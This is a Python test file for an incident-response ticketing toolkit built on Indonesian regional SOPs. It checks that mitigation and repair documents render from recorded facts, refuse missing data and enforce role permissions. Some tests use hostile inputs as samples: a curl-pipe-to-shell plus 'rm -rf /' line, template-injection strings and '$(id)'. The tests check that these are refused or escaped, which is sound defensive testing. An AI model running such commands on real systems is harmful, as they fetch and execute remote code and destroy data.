"""The SOP outputs that are documents of an incident: Gorontalo's *strategi mitigasi* (000 step 6) and
Surakarta's *Disposisi*, *Catatan Hasil Identifikasi* and *Dokumentasi hasil perbaikan* (003 rows 2-3, 6, 16):
rendered from the facts recorded on the ticket through the command layer, refused when a fact is missing,
decided only by the step's role, and with hostile text refused or printed literally (no lab: job results
that need one are shaped like the actions')."""

from __future__ import annotations

import re
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from tests.actions.test_incident_documents import NOW, PRIOR, _job, leaked
from tests.actions.test_incident_workflow import DOCUMENTATION, EVIDENCE, GORONTALO, LETTER, SURAKARTA
from tests.support.principals import as_lab
from toolkit.bootstrap import App
from toolkit.commands import desk
from toolkit.commands.incident import decide
from toolkit.document_context import build_context
from toolkit.documents import MissingTemplateDataError
from toolkit.engine.server import run_ticket
from toolkit.errors import ConflictError, InvalidInputError, PermissionDeniedError
from toolkit.ports.jobs import JobState
from toolkit.settings import load_settings

STRATEGY = {"strategi_penahanan": "Isolasi host; hanya alamat manajemen CSIRT yang dibuka.",
            "strategi_pemberantasan": "Hapus web shell; cabut akun yang dibuat penyerang.",
            "strategi_pemulihan": "Pulihkan aplikasi dari backup terakhir yang bersih."}
IDENTIFICATION = {"temuan_identifikasi": "Web shell pada direktori unggahan; akses dari 203.0.113.9.",
                  "penggantian_akses": "Kata sandi admin CMS dan kunci SSH deploy diganti."}
ISOLATION = {"containment": {"id": "CT-1", "ticket": "T", "kind": "isolate_host", "target": "pd-app-01",
                             "status": "active", "actor": "hendra", "created_at": "2026-11-24T01:00:00+00:00",
                             "released_by": None, "released_at": None, "params": {}},
             "applied": {"table": "inet spbe_isolation", "management_cidrs": ["10.213.0.1/32"], "changed": True}}


@pytest.fixture
def app(state_dir: Path) -> App:
    return App(load_settings(state_dir=state_dir))


def _render(app: App, ticket_id: str, template: str, prior: dict[str, Any] | None = None) -> str:
    ticket = app.tickets.get(ticket_id)
    context = build_context(ticket=ticket, service=app.catalog.get(ticket.service_id), prior=prior or PRIOR,
                            timeline=app.tickets.timeline(ticket_id), directory=app.directory, now=NOW,
                            roles=app.catalog.roles)
    return str(app.renderer.render("documents", template, context))


def _gorontalo(app: App) -> str:
    ticket = desk.open_ticket(app, "insiden-siber", as_lab("lina"), "Situs Disdik diretas", GORONTALO, EVIDENCE)
    desk.approve(app, ticket.id, as_lab("sari"), "Laporan terverifikasi: tangkapan layar dan log sesuai.")
    return ticket.id


def _surakarta(app: App, fields: dict[str, str] | None = None) -> str:
    ticket = desk.open_ticket(app, "keamanan-informasi", as_lab("kabid"), "Defacement situs Dinkes",
                              SURAKARTA | (fields or {}), [LETTER])
    desk.record_step(app, ticket.id, as_lab("hendra"), "tindak-lanjut-laporan", "Diperiksa bersama JF Sandiman.")
    return ticket.id


# -- 000 step 6: strategi mitigasi ----------------------------------------------------------------------

def test_the_mitigation_strategy_is_rendered_from_what_the_csirt_decided(app: App) -> None:
    ticket_id = _gorontalo(app)
    decide(app, ticket_id, as_lab("rina"), STRATEGY | {"ada_backup": "tidak"}, "Strategi sesuai panduan.")
    text = _render(app, ticket_id, "strategi_mitigasi")
    for phrase in ("STRATEGI MITIGASI INSIDEN SIBER", "SM-INS/", *STRATEGY.values(), "**tidak memiliki backup**",
                   "pembangunan ulang", "Tanpa backup 72 jam", "inspected pd-app-01", "EV-T-1",
                   "Laporan terverifikasi: tangkapan layar dan log sesuai.", "| Tim CSIRT |", " WITA"):
        assert phrase in text, phrase
    assert not leaked(text), "reporter identity in the strategy"


def test_the_strategy_refuses_to_render_without_each_phase(app: App) -> None:
    ticket_id = _gorontalo(app)
    decide(app, ticket_id, as_lab("rina"), {"strategi_penahanan": STRATEGY["strategi_penahanan"],
                                            "strategi_pemulihan": STRATEGY["strategi_pemulihan"]}, "Sebagian.")
    with pytest.raises(MissingTemplateDataError, match="strategi_pemberantasan"):
        _render(app, ticket_id, "strategi_mitigasi")
    decide(app, ticket_id, as_lab("rina"), STRATEGY, "Lengkap.")
    without_inspection = {k: v for k, v in PRIOR.items() if k != "pemeriksaan-objek"}
    with pytest.raises(MissingTemplateDataError, match="pemeriksaan"):
        _render(app, ticket_id, "strategi_mitigasi", without_inspection)


def test_only_the_csirt_decides_the_strategy_and_only_until_step_6_is_done(app: App) -> None:
    ticket_id = _gorontalo(app)
    for user in ("sari", "maya", "eko", "lina"):
        with pytest.raises(PermissionDeniedError):
            decide(app, ticket_id, as_lab(user), {"strategi_penahanan": "Matikan server."}, "Bukan wewenang.")
    assert not [e for e in app.tickets.timeline(ticket_id) if e.data.get("decisions")]
    service = app.catalog.get("insiden-siber")
    index = service.index_of("strategi-mitigasi")
    assert service.steps[index + 1].id == "dokumen-strategi-mitigasi"
    assert (service.steps[index + 1].kind, service.steps[index + 1].action) == ("document", "strategi_mitigasi")


@pytest.mark.parametrize("value", ["{{ config }}", "{% for x in y %}", "a" * 2001, "isolasi\x00", "\u202eisolasi"])
def test_hostile_strategy_text_is_refused(app: App, value: str) -> None:
    ticket_id = _gorontalo(app)
    with pytest.raises(InvalidInputError):
        decide(app, ticket_id, as_lab("rina"), STRATEGY | {"strategi_penahanan": value}, "Strategi.")
    assert not [e for e in app.tickets.timeline(ticket_id) if e.data.get("decisions")]


def test_shell_and_markdown_in_the_strategy_print_literally(app: App) -> None:
    ticket_id = _gorontalo(app)
    hostile = "Jalankan $(curl x.example | sh); `rm -rf /`\n| sel | palsu |\n# judul"
    decide(app, ticket_id, as_lab("rina"), STRATEGY | {"strategi_penahanan": hostile}, "Strategi.")
    text = _render(app, ticket_id, "strategi_mitigasi")
    row = next(line for line in text.splitlines() if line.startswith("| Penahanan"))
    assert row.count(" | ") == 1  # one table cell: the | of the text are escaped, its newlines folded
    assert "$(curl x.example \\| sh); \\`rm -rf /\\` \\| sel \\| palsu \\| # judul" in row
    assert "\n# judul" not in text


# -- 003: Disposisi, Catatan Hasil Identifikasi, Dokumentasi hasil perbaikan ----------------------------

def test_the_disposition_is_rendered_once_row_3_is_done(app: App) -> None:
    ticket_id = _surakarta(app, {"sifat_disposisi": "sangat-segera",
                                 "isi_disposisi": "Tangani segera; koordinasikan dengan Dinas Kesehatan."})
    [job] = run_ticket(app, ticket_id)
    assert (job.step_id, job.state) == ("dokumen-disposisi", JobState.SUCCEEDED)
    text = app.tickets.read_attachment(ticket_id, f"disposisi_{ticket_id}.md").decode()
    for phrase in ("LEMBAR DISPOSISI", "PEMERINTAH KOTA SURAKARTA", "DISP-KI/", "Sangat segera",
                   "Tangani segera; koordinasikan dengan Dinas Kesehatan.", "Diperiksa bersama JF Sandiman.",
                   "Analis Sistem Informasi dan Jaringan", "pd-app-01", "Situs berubah tampilan.", " WIB"):
        assert phrase in text, phrase
    assert not leaked(text)


def test_the_disposition_has_its_default_instruction(app: App) -> None:
    ticket_id = _surakarta(app)
    run_ticket(app, ticket_id)
    text = app.tickets.read_attachment(ticket_id, f"disposisi_{ticket_id}.md").decode()
    assert "Untuk segera ditindaklanjuti sesuai Standar Pelayanan Keamanan Informasi." in text and "Segera" in text


@pytest.mark.parametrize("fields", [{"isi_disposisi": "{{ 7*7 }}"}, {"isi_disposisi": "a" * 1001},
                                    {"sifat_disposisi": "kilat"}, {"isi_disposisi": "x\x1b[2J"}])
def test_a_bad_disposition_is_refused_at_intake(app: App, fields: dict[str, str]) -> None:
    with pytest.raises(InvalidInputError):
        desk.open_ticket(app, "keamanan-informasi", as_lab("kabid"), "Defacement", SURAKARTA | fields, [LETTER])
    assert app.tickets.list_tickets() == []


def test_the_identification_record_needs_row_4s_findings_and_the_isolation(app: App) -> None:
    ticket_id = _surakarta(app)
    run_ticket(app, ticket_id)
    decide(app, ticket_id, as_lab("hendra"), {"jenis_insiden": "keamanan"}, "Insiden keamanan.")
    prior = PRIOR | {"pemindahan-aset": _job("pemindahan-aset", ISOLATION, "pd-app-01 isolated (record CT-1)")}
    with pytest.raises(MissingTemplateDataError, match="temuan_identifikasi"):
        _render(app, ticket_id, "catatan_hasil_identifikasi", prior)
    with pytest.raises(PermissionDeniedError):  # row 4 is the Analis's
        decide(app, ticket_id, as_lab("wati"), IDENTIFICATION, "Bukan wewenang.")
    decide(app, ticket_id, as_lab("hendra"), IDENTIFICATION, "Hasil identifikasi.")
    desk.record_step(app, ticket_id, as_lab("hendra"), "penentuan-jenis-insiden", "Insiden keamanan.")
    with pytest.raises(ConflictError, match="can no longer be changed"):
        decide(app, ticket_id, as_lab("hendra"), {"temuan_identifikasi": "Lain."}, "Terlambat.")
    text = _render(app, ticket_id, "catatan_hasil_identifikasi", prior)
    for phrase in ("CATATAN HASIL IDENTIFIKASI", "CHI-KI/", *IDENTIFICATION.values(), "CT-1", "10.213.0.1/32",
                   "Insiden keamanan"):
        assert phrase in text, phrase
    assert not leaked(text)
    with pytest.raises(MissingTemplateDataError, match="pemindahan"):
        _render(app, ticket_id, "catatan_hasil_identifikasi")
    service = app.catalog.get("keamanan-informasi")
    step = service.step("dokumen-hasil-identifikasi")
    assert service.index_of(step.id) == service.index_of("pemindahan-aset") + 1
    assert not step.applies_to({"jenis_insiden": "umum"})


def _general_path_to_row_16(app: App) -> str:
    ticket_id = _surakarta(app)
    run_ticket(app, ticket_id)
    decide(app, ticket_id, as_lab("hendra"), {"jenis_insiden": "umum"}, "Gangguan konfigurasi.")
    desk.record_step(app, ticket_id, as_lab("hendra"), "penentuan-jenis-insiden", "Insiden umum.")
    desk.record_step(app, ticket_id, as_lab("wati"), "penanganan-insiden", "Virtual host diperbaiki.")
    desk.record_step(app, ticket_id, as_lab("kabid"), "pemeriksaan-hasil-penanganan", "Sesuai.")
    run_ticket(app, ticket_id)
    desk.record_step(app, ticket_id, as_lab("hendra"), "penutupan-laporan", "Laporan ditutup.")
    run_ticket(app, ticket_id)
    return ticket_id


def test_the_repair_documentation_fails_loudly_without_row_16s_facts(app: App) -> None:
    ticket_id = _general_path_to_row_16(app)
    with pytest.raises(PermissionDeniedError):  # row 16 is the Analis's
        decide(app, ticket_id, as_lab("kabid"), DOCUMENTATION, "Bukan wewenang.")
    desk.record_step(app, ticket_id, as_lab("hendra"), "dokumentasi-insiden", "Tanpa catatan.")
    [job] = run_ticket(app, ticket_id)
    assert job.step_id == "dokumen-hasil-perbaikan" and job.state != JobState.SUCCEEDED
    assert "langkah_perbaikan" in (job.error or "")
    assert not [a for a in app.tickets.get(ticket_id).attachments if a.kind == "dokumentasi_hasil_perbaikan"]
    with pytest.raises(ConflictError, match="cannot be closed yet"):
        desk.close(app, ticket_id, as_lab("hendra"), "Selesai.")


def test_the_repair_documentation_carries_root_cause_prevention_and_evaluation(app: App) -> None:
    ticket_id = _general_path_to_row_16(app)
    hostile = DOCUMENTATION | {"akar_masalah": "Konfigurasi `AllowOverride All`; $(id) | **x**\n- daftar"}
    decide(app, ticket_id, as_lab("hendra"), hostile, "Dokumentasi.")
    desk.record_step(app, ticket_id, as_lab("hendra"), "dokumentasi-insiden", "Didokumentasikan.")
    [job] = run_ticket(app, ticket_id)
    assert (job.step_id, job.state) == ("dokumen-hasil-perbaikan", JobState.SUCCEEDED)
    text = app.tickets.read_attachment(ticket_id, f"dokumentasi_hasil_perbaikan_{ticket_id}.md").decode()
    for phrase in ("DOKUMENTASI HASIL PERBAIKAN SERTA BUKTI INSIDEN", "DOK-KI/", "insiden umum",
                   DOCUMENTATION["langkah_perbaikan"], DOCUMENTATION["rencana_pencegahan"],
                   DOCUMENTATION["evaluasi_pencegahan"], "Virtual host diperbaiki.", "surat.pdf",
                   "Konfigurasi \\`AllowOverride All\\`; $(id) \\| \\*\\*x\\*\\* - daftar"):
        assert phrase in text, phrase
    assert not re.search(r"^- daftar", text, re.M) and not leaked(text)
    desk.close(app, ticket_id, as_lab("hendra"), "Selesai.")
    assert app.tickets.get(ticket_id).status.value == "closed"


# -- 003's short procedure: its own service, three steps of 60 minutes --------------------------------

def test_the_short_procedure_runs_request_review_implementation(app: App) -> None:
    from tests.support.cli import Spbe

    fields = {"instansi": "Dinas Kesehatan", "perihal": "Permohonan sertifikat elektronik",
              "produk": "tanda-tangan-elektronik", "kontak_email": "it@dinkes.example.go.id"}
    ticket = desk.open_ticket(app, "permohonan-keamanan-informasi", as_lab("andi"), "Sertifikat TTE", fields,
                              [LETTER])
    service = app.catalog.get(ticket.service_id)
    assert [s.standard_time for s in service.steps if s.sop_no] == [timedelta(minutes=60)] * 3
    assert service.sla.select(ticket.fields).duration == timedelta(days=1)
    for user in ("andi", "hendra", "sari"):  # the applicant, the Analis, a coordinator of another SOP
        with pytest.raises(PermissionDeniedError):
            desk.approve(app, ticket.id, as_lab(user), "Setuju.")
    desk.approve(app, ticket.id, as_lab("kabid"), "Surat lengkap; ditinjau dan disetujui.")
    with pytest.raises(PermissionDeniedError):
        desk.close(app, ticket.id, as_lab("kabid"), "Bukan pelaksana implementasi.")
    desk.close(app, ticket.id, as_lab("hendra"), "Sertifikat elektronik diterbitkan bersama JF Sandiman.")
    [job] = run_ticket(app, ticket.id)
    assert (job.step_id, job.state) == ("notifikasi-pemohon", JobState.SUCCEEDED)
    shown = Spbe(state_dir=app.settings.state_dir).json("ticket", "show", ticket.id, "--as", "andi")
    assert shown["ticket"]["status"] == "closed", shown
